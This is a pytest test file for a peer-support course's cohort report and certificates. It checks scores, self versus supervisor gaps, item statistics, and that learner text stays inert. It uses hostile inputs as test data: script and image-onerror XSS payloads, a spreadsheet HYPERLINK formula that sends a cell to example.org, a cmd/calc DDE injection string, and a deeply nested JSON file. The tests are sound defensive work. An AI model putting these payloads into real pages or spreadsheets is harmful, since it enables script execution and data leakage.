"""The cohort report and certificates on a small hand-made cohort: exact
category scores, completion, self versus supervisor, support flags, and
learner text that stays inert."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from datetime import datetime

import pandas as pd
import pytest

from peer_course.reports.certificates import write_certificates
from peer_course.reports.cohort import build_report
from peer_course.reports.write import write_report
from peer_course.reports.data import (
    ITEM_COLUMNS, LEARNER_COLUMNS, RESPONSE_COLUMNS, SCORE_COLUMNS, SUBMISSION_COLUMNS, CohortData,
)

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"


def cohort() -> CohortData:
    items = pd.DataFrame([
        ("check", "k1", "single_choice", "support", 1.0, None, 2),
        ("check", "k2", "multiple_select", "support", 2.0, None, 1),
        ("check", "k3", "single_choice", "crisis", 1.0, None, 1),
        ("check", "r1", "reflection", "growth", 1.0, None, 1),
        ("self", "s1", "rating", "support", 1.0, "competency", 1),
        ("self", "s2", "rating", "support", 1.0, "competency", 1),
        ("self", "s3", "rating", "crisis", 1.0, "competency", 1),
    ], columns=ITEM_COLUMNS)
    learners = pd.DataFrame([("ann", "Ann", "Lee", "ann@example.org"), ("bo", SCRIPT, "Ray", ""),
                             ("supervisor--ann", "Sam", "Boss", "")], columns=LEARNER_COLUMNS)
    scores = pd.DataFrame([
        ("ann", "check", "k1", 1.0, 1.0), ("ann", "check", "k2", 2.0, 2.0), ("ann", "check", "k3", 1.0, 1.0),
        ("bo", "check", "k1", 0.0, 1.0), ("bo", "check", "k2", 1.0, 2.0), ("bo", "check", "k3", 1.0, 1.0),
    ], columns=SCORE_COLUMNS)
    submissions = pd.DataFrame([
        ("ann", "check", datetime(2026, 11, 20, 10), 4.0, 5.0, "en"),
        ("ann", "self", datetime(2026, 11, 21, 9), 3.0, 3.0, "en"),
        ("bo", "check", datetime(2026, 11, 22, 11), 2.0, 5.0, "es"),
        ("supervisor--ann", "self", datetime(2026, 11, 23, 8), 3.0, 3.0, "en"),
    ], columns=SUBMISSION_COLUMNS)
    responses = pd.DataFrame([
        ("ann", "check", "k1", "v2", "en", None, None, None), ("ann", "check", "k2", "v1", "en", None, None, None),
        ("ann", "check", "k3", "v1", "en", None, None, None),
        ("ann", "self", "s1", "v1", "en", "advanced", "", None), ("ann", "self", "s2", "v1", "en", "advanced", "", None),
        ("ann", "self", "s3", "v1", "en", "developing", IMG, None),
        ("supervisor--ann", "self", "s1", "v1", "en", "developing", "new", None),
        ("supervisor--ann", "self", "s2", "v1", "en", "proficient", "", None),
        ("supervisor--ann", "self", "s3", "v1", "en", "proficient", "", None),
        ("bo", "check", "k1", "v1", "es", None, None, None), ("bo", "check", "k2", "v1", "es", None, None, None),
        ("bo", "check", "r1", "v1", "es", None, None, f"I shared {SCRIPT}"),
    ], columns=RESPONSE_COLUMNS)
    return CohortData(learners, items, scores, submissions, responses)


@pytest.fixture
def tables():
    return build_report(cohort())


def test_learners_exclude_supervisors_and_score_by_category(tables):
    learners = tables["learners"].set_index("student")
    assert list(learners.index) == ["ann", "bo"]
    cats = tables["learner_categories"].set_index(["student", "category"])
    # bo on support: k1 0/1 + k2 1/2 = 1 of 3 points; crisis: k3 1/1
    assert cats.loc[("bo", "support"), "score_pct"] == pytest.approx(1 / 3)
    assert cats.loc[("bo", "crisis"), "score_pct"] == 1.0
    # completion: support has 4 items in the course (k1, k2, s1, s2); bo answered k1, k2 -> 0.5
    assert cats.loc[("bo", "support"), "completion"] == 0.5
    assert cats.loc[("ann", "support"), "completion"] == 1.0
    assert learners.loc["bo", "score_pct"] == pytest.approx(2 / 4)
    assert learners.loc["ann", "assessments_submitted"] == 2


def test_self_versus_supervisor_and_support_flags(tables):
    gaps = tables["self_vs_supervisor"].set_index(["student", "category"])
    # ann support: self (3 + 3) / 2 = 3, supervisor (1 + 2) / 2 = 1.5, gap 1.5; crisis: 1 vs 2, gap -1
    assert gaps.loc[("ann", "support")][["self_mean", "supervisor_mean", "gap"]].tolist() == [3.0, 1.5, 1.5]
    assert gaps.loc[("ann", "crisis")][["self_mean", "supervisor_mean", "gap"]].tolist() == [1.0, 2.0, -1.0]
    learners = tables["learners"].set_index("student")
    assert learners.loc["ann", "support_reasons"] == (
        "self-rating 1.5 above supervisor in II. Provides support")
    assert learners.loc["bo", "support_reasons"] == "low score in II. Provides support (33%)"
    assert learners["needs_support"].tolist() == [True, True]


def test_item_stats_and_alpha_tables(tables):
    stats = tables["item_stats"].set_index(["item", "variant", "language"])
    # k1 has two versions: ann answered v2 in English (right), bo v1 in Spanish
    # (wrong); each version and language is its own row, so a translation that
    # works differently from the English shows up
    assert list(stats.index) == [("k1", "v1", "es"), ("k1", "v2", "en"), ("k2", "v1", "en"), ("k2", "v1", "es"),
                                 ("k3", "v1", "en"), ("k3", "v1", "es")]
    assert stats.loc[("k1", "v1", "es"), "facility"] == 0.0 and stats.loc[("k1", "v2", "en"), "facility"] == 1.0
    assert stats.loc[("k1", "v1", "es"), "n"] == 1 and stats.loc[("k1", "v2", "en"), "n"] == 1
    assert stats.loc[("k2", "v1", "en"), "facility"] == 1.0 and stats.loc[("k2", "v1", "es"), "facility"] == 0.5
    # bo left k3 unanswered: it counts in the language bo chose for that assessment
    assert stats.loc[("k3", "v1", "es"), "n"] == 1
    learners = tables["learners"].set_index("student")
    assert learners.loc["ann", "language"] == "en" and learners.loc["bo", "language"] == "es"
    alpha = tables["scale_alpha"]
    assert alpha[["assessment", "scale", "items", "learners"]].values.tolist() == [
        ["self", "all", 3, 1], ["self", "support", 2, 1]]  # only ann's own ratings: alpha undefined with one learner


def test_report_html_is_self_contained_and_inert(tables, tmp_path):
    path = write_report(tables, tmp_path / "out")
    page = path.read_text(encoding="utf-8")
    assert SCRIPT not in page and IMG not in page
    assert "<script" not in page.lower() and "<link" not in page.lower() and "<img" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # bo's first name and his shared reflection
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # ann's comment
    assert not re.search(r"""(src|href)=["']?https?:""", page)
    assert page.count("<svg") == 2
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        ["report.html", "learners.csv", "learner_categories.csv", "cohort_profile.csv", "self_vs_supervisor.csv",
         "item_stats.csv", "scale_alpha.csv", "free_text.csv", "coverage.csv"])
    free = pd.read_csv(tmp_path / "out" / "free_text.csv")
    assert free["text"].tolist() == [IMG, "new", f"I shared {SCRIPT}"]  # CSV keeps the text as written
    assert "Coverage of certification frameworks" in page


def test_coverage_table_counts_every_framework_entry(tables):
    from peer_widgets.categories import categories
    from peer_widgets.frameworks import frameworks

    coverage = tables["coverage"]
    assert len(coverage) == len(categories()) + sum(len(f.entries) for f in frameworks())  # 12 + 17 + 4
    assert set(coverage["competency"]) >= {"Trauma-informed care", "Digital literacy", "Ethical responsibility"}


def test_certificates_follow_the_pass_rule_and_escape_names(tmp_path, monkeypatch):
    """A one-module course: Ann's checks are all right (a certificate); Bo's
    earn 50 % of the credit, below the 80 % rule (none, whatever he submitted)."""
    import dataclasses

    import peer_widgets.manifest
    from peer_course.reports import certificates as module

    manifest = peer_widgets.manifest.load_manifest()
    one_module = dataclasses.replace(manifest, modules=manifest.modules[:1])
    monkeypatch.setattr(peer_widgets.manifest, "load_manifest", lambda *a, **k: one_module)
    first, selfname = manifest.modules[0].assessment, manifest.self_assessment.assessment
    data = cohort()
    data.submissions["assessment"] = data.submissions["assessment"].map({"check": first, "self": selfname})
    data.scores["assessment"] = data.scores["assessment"].map({"check": first, "self": selfname})
    data.items["assessment"] = data.items["assessment"].map({"check": first, "self": selfname})
    paths = write_certificates(data, tmp_path)
    assert [p.name for p in paths] == ["ann.html"]
    ann = paths[0].read_text(encoding="utf-8")
    assert "<td>Module 1: The peer role</td><td>100%</td><td>2026-11-20</td>" in ann
    assert "<td>Core competencies self-assessment</td><td></td><td>2026-11-21</td>" in ann
    assert "not a state peer" in ann
    results = module.course_results(data, one_module)
    assert not results["bo"].passed and results["bo"].modules[0].percent == 50
    # the name is escaped wherever it appears
    data.scores.loc[data.scores["student"] == "bo", "score"] = data.scores.loc[data.scores["student"] == "bo", "max_score"]
    bo = write_certificates(data, tmp_path)[1].read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Ray" in bo and SCRIPT not in bo
    assert module.SUPERVISOR_PREFIX == "supervisor--"


@pytest.mark.slow
def test_dashboard_notebook_shows_the_report(tmp_path, monkeypatch):
    """The Voila dashboard executes against a trainer folder and shows the report."""
    import nbformat
    from nbclient import NotebookClient

    import peer_course.reports
    from peer_course.grading.trainer_dir import init_course_dir

    folder = init_course_dir(tmp_path / "t", assessments=["peer-role-check"])
    monkeypatch.setenv("PEER_COURSE_DIR", str(folder))
    nb = nbformat.read(Path(peer_course.reports.__file__).with_name("dashboard.ipynb"), as_version=4)
    assert all(not c.get("outputs") for c in nb.cells if c.cell_type == "code")  # stored without outputs
    NotebookClient(nb, kernel_name="python3", timeout=120).execute()
    html = nb.cells[1].outputs[0]["data"]["text/html"]
    assert "<h1>Cohort dashboard</h1>" in html and "Item statistics" in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_learner_text_cannot_run_as_a_spreadsheet_formula(tmp_path, start):
    data = cohort()
    formula = f"{start}HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
    data.responses.loc[data.responses["item"] == "s3", "comment"] = formula
    data.learners.loc[data.learners["student"] == "ann", "first_name"] = f"{start}cmd|' /C calc'!A0"
    write_report(build_report(data), tmp_path / "out")
    for name in ("free_text.csv", "learners.csv"):
        with (tmp_path / "out" / name).open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or
                    (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit())], name
        assert any(cell.startswith("'" + start) for cell in cells), name  # kept, as text


def test_unusable_answers_files_are_reported_and_skipped(tmp_path):
    from peer_course.reports.data import read_responses

    good = tmp_path / "good.json"
    good.write_text(json.dumps({"schema_version": 1, "items": {"k1": {"value": "a"}}}), encoding="utf-8")
    nested = tmp_path / "nested.json"
    value: object = "x"
    for _ in range(50):
        value = [value]
    nested.write_text(json.dumps({"schema_version": 1, "items": {"k1": {"value": value}}}), encoding="utf-8")
    bomb = tmp_path / "bomb.json"
    bomb.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(good)
    assert read_responses(good) == ({"k1": {"value": "a"}}, None)
    for path, why in ((nested, "nests more than"), (bomb, "could not be used"), (link, "symbolic link"),
                      (tmp_path / "none.json", "no answers file")):
        records, problem = read_responses(path)
        assert records == {} and why in problem, path


def test_the_report_command_names_skipped_submissions(tmp_path, monkeypatch):
    from peer_course.reports import write

    data = cohort()
    data.problems.append("bo: check: the answers file could not be used (nests too deep); their answers are left out")
    monkeypatch.setattr(write, "load_cohort", lambda course_dir, assessments=None: data)
    lines: list[str] = []
    data.problems.append(f"{SCRIPT}: check: no answers file; their answers are left out")
    write.cohort_report(course_dir=tmp_path, out=tmp_path / "out", progress=lines.append)
    assert "skipped: bo: check: the answers file could not be used (nests too deep); their answers are left out" in lines
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "<li>bo: check: the answers file could not be used (nests too deep); their answers are left out</li>" in page
    assert SCRIPT not in page and "&lt;script&gt;" in page
